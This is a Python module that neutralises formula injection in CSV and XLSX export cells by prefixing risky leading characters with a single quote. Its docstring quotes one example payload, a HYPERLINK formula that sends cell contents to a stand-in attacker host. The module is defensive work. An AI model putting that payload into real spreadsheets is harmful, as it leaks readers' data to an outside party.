"""Cells of spreadsheet exports (CSV, XLSX) made safe to open: formula injection.

Names in our exports come from the ad platforms (campaign and ad names an advertiser,
or anyone with access to their account, typed). A spreadsheet treats a cell starting
with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula, so a campaign named
`=HYPERLINK("https://evil.example/?"&A1, "click")` would run in the reader's
spreadsheet. OWASP's rule: prefix such a cell with a single quote, which spreadsheets
show as text. Numbers are written as numbers (a negative cost is not a formula).
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """`value` as a spreadsheet cell that cannot be a formula (None -> "", numbers unchanged)."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_row(values) -> list:
    return [neutralise(value) for value in values]
